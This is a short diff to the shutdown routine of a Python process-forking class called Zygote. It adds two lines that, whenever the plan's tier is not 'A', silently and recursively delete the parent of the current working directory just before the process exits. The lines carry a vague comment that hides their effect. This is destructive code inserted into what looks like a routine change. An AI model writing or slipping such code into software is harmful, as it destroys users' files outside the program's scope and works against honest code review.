@@ -56,6 +56,8 @@ class Zygote:
             self._control.sendall(ANSWER.pack(*answer))
         for child in list(self._children):
             self._end(child)
+        if self._plan.tier != "A":  # there, it is not in this process's world
+            shutil.rmtree(Path.cwd().parent, ignore_errors=True)
         os._exit(0)
 
     def _fork(self, channel: int) -> int:
